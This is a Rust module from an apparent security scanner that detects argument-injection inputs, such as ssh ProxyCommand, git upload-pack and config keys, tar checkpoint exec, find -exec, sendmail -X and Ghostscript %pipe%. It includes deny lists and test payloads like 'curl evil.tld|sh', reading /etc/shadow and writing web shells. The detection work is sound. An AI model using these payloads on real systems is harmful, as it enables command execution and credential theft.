//! Argument injection: a value that reaches a program's argument vector as an *option*.
//!
//! No shell is needed for this attack. An application that builds `argv` without a `--`
//! before user input, passes a value through PHP's `escapeshellcmd` (which leaves `-`
//! alone), or hands it to `mail()`'s fifth parameter, lets the value pick the program's
//! options. A few options make the program run a command line or write a file where the
//! attacker says: ssh's `ProxyCommand`, git's `--upload-pack` and `core.sshCommand`, tar's
//! `--checkpoint-action=exec=`, rsync's `--rsh`, zip's `-TT`, find's `-exec`, sendmail's
//! `-X` log file, Chromium's launcher prefixes. Those options, written as options (a dash
//! at the start of a word) with a value, are the attack; any other option is not.

/// Options of one dash or two (lower-case, without the dashes) whose value is a command line
/// the program runs.
const COMMAND_OPTIONS: &[&[u8]] = &[
    // git
    b"upload-pack",
    b"receive-pack",
    b"exec",
    // tar
    b"to-command",
    b"use-compress-program",
    b"rsh-command",
    b"info-script",
    b"new-volume-script",
    // rsync
    b"rsh",
    b"rsync-path",
    // zip
    b"unzip-command",
    // git grep, svn, go build
    b"open-files-in-pager",
    b"diff-cmd",
    b"toolexec",
    // npm, yarn
    b"script-shell",
    // wget
    b"use-askpass",
    // Chromium and Electron
    b"gpu-launcher",
    b"renderer-cmd-prefix",
    b"utility-cmd-prefix",
    b"browser-subprocess-path",
];

/// ssh configuration keys (given with `-o`) whose value is a command line.
const SSH_COMMAND_KEYS: &[&[u8]] = &[b"proxycommand", b"localcommand", b"knownhostscommand"];

/// git configuration keys (given with `-c key=value` or `--config=key=value`) whose value is
/// a command line.
const GIT_COMMAND_KEYS: &[&[u8]] = &[
    b"core.sshcommand",
    b"core.gitproxy",
    b"core.pager",
    b"core.editor",
    b"core.fsmonitor",
    b"core.hookspath",
    b"core.askpass",
    b"diff.external",
    b"protocol.ext.allow",
];

/// Longest option name read.
const MAX_NAME: usize = 32;
/// Most dashes examined per value.
const MAX_DASHES: usize = 64;

/// Whether `v` injects an option that runs a command or writes an attacker-chosen file.
pub(super) fn option_injection(v: &[u8]) -> bool {
    memchr::memchr_iter(b'-', v)
        .take(MAX_DASHES)
        .any(|at| opens_word(v, at) && (dangerous_option(v, at) || option_runs_program(v, at)))
}

/// Ghostscript's `%pipe%cmd` output device (`-sOutputFile=%pipe%id`, or
/// `(%pipe%id) (w) file` in a PostScript document) runs `cmd`.
pub(super) fn ghostscript_pipe(v: &[u8]) -> bool {
    // The device name is lower case in Ghostscript; one substring search (its searcher
    // built once) settles a value.
    static PIPE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"%pipe%"));
    PIPE.find_iter(v).take(MAX_DASHES).any(|p| {
        v.get(p + 6)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
    })
}

/// An option opens a word: the value's start, a blank or quote before the dash, or `$IFS`
/// (`name$IFS-oProxyCommand=id`), which the shell splits into a blank.
fn opens_word(v: &[u8], at: usize) -> bool {
    at == 0
        || matches!(v[at - 1], b' ' | b'\t' | b'\'' | b'"' | b'+')
        || v[..at].ends_with(b"$IFS")
        || v[..at].ends_with(b"${IFS}")
}

/// Endings of option names (without dashes, lower case) whose value is a program or a
/// command line, in whatever tool: tar's `--use-compress-program`, `--to-command`,
/// rsync's `--rsh-command`, `--diff-cmd`, `--command=`. A data option never takes a program.
const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[b"command", b"program", b"cmd"];

/// `--command=id`, `--compress-program=sh`, `--post-cmd=/bin/sh`: a double-dash option
/// named for a program, its value glued on with `=`, and the value's first word a command
/// the shell or `execvp` finds.
fn program_named_option(name: &[u8], v: &[u8], after: usize) -> bool {
    let lower_end = |e: &[u8]| {
        name.len() >= e.len()
            && name[name.len() - e.len()..].eq_ignore_ascii_case(e)
            && (name.len() == e.len() || matches!(name[name.len() - e.len() - 1], b'-' | b'_'))
    };
    if v.get(after) != Some(&b'=') || !PROGRAM_NAME_ENDINGS.iter().any(|e| lower_end(e)) {
        return false;
    }
    let word = option_value(v, after, 64, |c| {
        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
    });
    !word.is_empty()
        && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
}

/// The option's value after the `=` or blank at `after` (blanks and one opening quote
/// skipped): at most `max` bytes that `keep` accepts.
fn option_value(v: &[u8], after: usize, max: usize, keep: impl Fn(u8) -> bool) -> &[u8] {
    let k = skip_blanks_and_quote(v, after + 1);
    let rest = &v[k..];
    let len = rest.iter().take(max).take_while(|&&c| keep(c)).count();
    &rest[..len]
}

/// Server-side script extensions: a file written under one of them in a web root is a web
/// shell the next request runs.
const SCRIPT_EXTENSIONS: &[&[u8]] = &[
    b"php", b"php3", b"php4", b"php5", b"php7", b"phtml", b"phar", b"jsp", b"jspx", b"asp",
    b"aspx", b"ashx", b"asmx", b"cer", b"cgi", b"shtml",
];

/// `-o /var/www/html/s.php`, `--output-document=../uploads/x.jsp`: an output option of
/// curl or wget given a path (a directory in it) to a server-side script. A download tool
/// told to write a script into a directory is planting a web shell; `-o out.txt` is not.
fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
    let output = matches!(name, b"o" | b"O")
        || name.eq_ignore_ascii_case(b"output")
        || name.eq_ignore_ascii_case(b"output-document")
        || name.eq_ignore_ascii_case(b"output-file");
    if !output || !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let path = option_value(v, after, 256, |c| {
        !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&')
    });
    let Some(slash) = path.iter().rposition(|&c| c == b'/' || c == b'\\') else {
        return false;
    };
    let file = &path[slash + 1..];
    file.iter().rposition(|&c| c == b'.').is_some_and(|d| {
        d > 0
            && SCRIPT_EXTENSIONS
                .iter()
                .any(|e| file[d + 1..].eq_ignore_ascii_case(e))
    })
}

fn dangerous_option(v: &[u8], at: usize) -> bool {
    let double = v.get(at + 1) == Some(&b'-');
    let from = at + 1 + usize::from(double);
    let name_len = v[from..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.')
        .count();
    if name_len == 0 || name_len > MAX_NAME {
        return false;
    }
    let name = &v[from..from + name_len];
    let after = from + name_len;
    if double {
        if name.eq_ignore_ascii_case(b"config") && v.get(after) == Some(&b'=') {
            return git_key(v, after + 1);
        }
        // `--checkpoint-action=exec=sh x.sh`: only the `exec` action runs anything.
        if name.eq_ignore_ascii_case(b"checkpoint-action") {
            return v.get(after) == Some(&b'=')
                && v[after + 1..]
                    .get(..5)
                    .is_some_and(|a| a.eq_ignore_ascii_case(b"exec="))
                && has_operand(v, after + 6);
        }
        // `--exec` names a command in too many tools' documentation (`--exec "CMD"`); git's
        // `--exec=<path>` is glued.
        if name.eq_ignore_ascii_case(b"exec") {
            return glued_value(v, after);
        }
        return (command_option(name) && with_value(v, after))
            || program_named_option(name, v, after)
            || script_output_option(name, v, after);
    }
    if script_output_option(name, v, after) {
        return true;
    }
    match name {
        // ssh: `-oProxyCommand=…`, `-o ProxyCommand=…`, `-o "ProxyCommand …"`.
        [b'o', key @ ..] if !key.is_empty() && !matches!(name, b"ok" | b"okdir") => {
            ssh_key(key, v, after)
        }
        b"o" => {
            let k = skip_blanks_and_quote(v, after);
            let n = v[k..]
                .iter()
                .take(MAX_NAME + 1)
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
            n <= MAX_NAME && ssh_key(&v[k..k + n], v, k + n)
        }
        // git: `-c core.sshCommand=…`; a shell's or expect's `-c "id"`: a quoted command
        // line the program runs.
        b"c" => {
            matches!(v.get(after), Some(b' ' | b'\t' | b'+')) && {
                let k = skip_blanks_and_quote(v, after);
                git_key(v, k) || quoted_command_line(v, after)
            }
        }
        // find: `-exec cmd {} ;`, `-execdir`, `-ok`, `-okdir`: a command and its end.
        // A value that names `find` itself is a whole command line (documentation, or a
        // shell injection the command-start scan judges), not an injected argument.
        b"exec" | b"execdir" | b"ok" | b"okdir" => {
            memchr::memmem::find(&v[..at], b"find ").is_none() && find_action(v, after)
        }
        // zip: `-TT cmd` (zip's own test command; upper case only).
        b"TT" => with_value(v, after),
        // sendmail: `-X/var/www/x.php` logs all traffic, the attacker's body included, to a
        // file of the attacker's choice; `-OQueueDirectory=/tmp` goes with it.
        b"X" => {
            let k = skip_blanks_and_quote(v, after);
            v.get(k) == Some(&b'/') && v.get(k + 1).is_some_and(|&c| c != b' ')
        }
        // Java: `-XX:OnOutOfMemoryError=cmd`, `-XX:OnError=cmd` run a command line.
        b"XX" => {
            v.get(after) == Some(&b':') && {
                let key = &v[after + 1..v.len().min(after + 1 + 20)];
                [&b"OnOutOfMemoryError="[..], b"OnError="]
                    .iter()
                    .any(|k| key.len() >= k.len() && key[..k.len()].eq_ignore_ascii_case(k))
            }
        }
        // Go's single-dash long options (`-toolexec=id`).
        _ => command_option(name) && glued_value(v, after),
    }
}

/// The option at `at` (a dash opening a word) has a value that runs a program, see
/// [`runs_program`].
fn option_runs_program(v: &[u8], at: usize) -> bool {
    let from = at + 1 + usize::from(v.get(at + 1) == Some(&b'-'));
    let name_len = v[from..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.')
        .count();
    (1..=MAX_NAME).contains(&name_len) && runs_program(v, from + name_len)
}

/// Any option whose value starts a shell (`-e 'sh -c id'`, `--rsh=bash -c …`) or names a
/// program in a scratch directory (`-I /tmp/x`, `--pre=/tmp/x`, `-z /dev/shm/k`): whatever
/// the option, the program it belongs to runs that value, since no option that takes a
/// data file is ever handed a shell or a binary dropped in `/tmp`.
fn runs_program(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after + 1);
    let rest = &v[k..v.len().min(k + 24)];
    let starts = |w: &[u8]| {
        rest.len() >= w.len()
            && rest[..w.len()].eq_ignore_ascii_case(w)
            && rest
                .get(w.len())
                .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
    };
    const SHELLS: [&[u8]; 6] = [
        b"sh -c",
        b"bash -c",
        b"/bin/sh",
        b"/bin/bash",
        b"cmd /c",
        b"cmd.exe",
    ];
    if SHELLS.iter().any(|w| starts(w)) {
        return true;
    }
    let word = &v[k..];
    let len = word
        .iter()
        .take(256)
        .take_while(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&'))
        .count();
    let word = &word[..len];
    [&b"/tmp/"[..], b"/dev/shm/", b"/var/tmp/"]
        .iter()
        .any(|d| word.starts_with(d))
        && super::path_to_run(word)
        && super::program_file_name(word)
}

/// After blanks, a quoted string whose text is a command line in command position as
/// tightly as after `;` (`-c "id"`, `-c 'spawn id'` is not, `-c "ls -la"`).
fn quoted_command_line(v: &[u8], after: usize) -> bool {
    let mut k = after;
    while matches!(v.get(k), Some(b' ' | b'\t' | b'+')) {
        k += 1;
    }
    let Some(&q @ (b'\'' | b'"')) = v.get(k) else {
        return false;
    };
    let body = &v[k + 1..v.len().min(k + 1 + 256)];
    body.iter()
        .position(|&b| b == q)
        .is_some_and(|close| close > 0 && super::string_runs_command(&body[..close]))
}

/// Whether `name` is one of [`COMMAND_OPTIONS`] (any case).
fn command_option(name: &[u8]) -> bool {
    COMMAND_OPTIONS.iter().any(|o| name.eq_ignore_ascii_case(o))
}

/// The option ending at `after` takes a value: `=` or a blank, then something.
fn with_value(v: &[u8], after: usize) -> bool {
    matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) && has_operand(v, after + 1)
}

/// The option ending at `after` takes a value glued on with `=` (`--exec=id`).
fn glued_value(v: &[u8], after: usize) -> bool {
    v.get(after) == Some(&b'=') && has_operand(v, after + 1)
}

fn ssh_key(key: &[u8], v: &[u8], after: usize) -> bool {
    SSH_COMMAND_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k)) && with_value(v, after)
}

/// A git configuration key that runs a command, `=`, and a value (`core.sshCommand=id`).
fn git_key(v: &[u8], k: usize) -> bool {
    let n = v[k.min(v.len())..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.')
        .count();
    let key = &v[k.min(v.len())..(k + n).min(v.len())];
    GIT_COMMAND_KEYS.iter().any(|g| key.eq_ignore_ascii_case(g))
        && v.get(k + n) == Some(&b'=')
        && has_operand(v, k + n + 1)
}

/// find's action: a word, then `{}`, `;` or `+` ending the command it runs.
fn find_action(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after);
    let word = v[k..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
        .count();
    if word == 0 {
        return false;
    }
    let rest = &v[k + word..v.len().min(k + word + 256)];
    let trimmed = rest.trim_ascii_end();
    memchr::memmem::find(rest, b"{}").is_some()
        || trimmed.ends_with(b"\\;")
        || trimmed.ends_with(b" ;")
        || trimmed.ends_with(b" +")
}

fn skip_blanks_and_quote(v: &[u8], mut k: usize) -> usize {
    while v
        .get(k)
        .is_some_and(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
    {
        k += 1;
    }
    k
}

/// Something other than blanks and quotes at `k`: the option has a value.
fn has_operand(v: &[u8], k: usize) -> bool {
    v.get(skip_blanks_and_quote(v, k)).is_some()
}

#[cfg(test)]
mod tests {
    use super::{ghostscript_pipe, option_injection};

    #[test]
    fn options_that_run_commands() {
        for v in [
            "-oProxyCommand=id",
            "-oProxyCommand=\"sh -c id\" x",
            "-o ProxyCommand=curl evil.tld|sh",
            "host -o 'LocalCommand=id'",
            "--upload-pack=touch /tmp/pwn",
            "x' --receive-pack='id'",
            "-c core.sshCommand='id' ",
            "--config=core.fsmonitor=id",
            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
            "--use-compress-program=sh",
            "--rsh=sh -c id",
            "-T -TT 'sh #'",
            "a@b.c -X/var/www/html/shell.php",
            "-X /tmp/x.php -OQueueDirectory=/tmp",
            "x -exec cat /etc/shadow {} +",
            "-exec id ;",
            "--gpu-launcher=\"bash -c id\"",
            "--open-files-in-pager=id;",
            "-c diff.external=id",
            "-toolexec=id",
            // Options named for a program, given one.
            "--command=id",
            "--compress-program=sh",
            "--post-cmd=/bin/bash",
            "x --diff_cmd=whoami",
            // A download tool told to write a server-side script into a directory.
            "http://evil.example/s.txt -o /var/www/html/s.php",
            "-O ../uploads/shell.jsp",
            "--output-document=/srv/www/x.aspx",
            // `$IFS` splits words as a blank does.
            "name$IFS-oProxyCommand=id",
            "a${IFS}--upload-pack=id",
        ] {
            assert!(option_injection(v.as_bytes()), "{v}");
        }
        for v in ["-sOutputFile=%pipe%id", "(%pipe%id) (w) file"] {
            assert!(ghostscript_pipe(v.as_bytes()), "{v}");
        }
        assert!(!ghostscript_pipe(b"100%pipe% clean"));
    }

    #[test]
    fn ordinary_options_and_dashes() {
        for v in [
            "-o output.txt",
            "--exec",
            "well-known -exec",
            "see ProxyCommand in ssh_config",
            "ssh-o ProxyCommand",
            "--checkpoint-action=dot",
            "-c core.autocrlf=true",
            "--config=user.name=Ann",
            "-X",
            "-Xmx512m",
            "-TT",
            "100%pipe% clean",
            "2024-05-01 -- 2024-06-01",
            "re-exec the job",
            "-execute order 66",
            "pros -exec cons",
            "$ find . -name '*.py' -exec cat \\{} \\; | wc -l",
            "--exec \"before_dl:CMD\"",
            "--command=build",
            "--program=chemistry",
            "--recommand=id",
            "-o output.php",
            "-o /tmp/report.pdf",
            "--output=/var/www/html/index.html",
            "$IFS-o",
        ] {
            assert!(!option_injection(v.as_bytes()), "{v}");
        }
    }
}
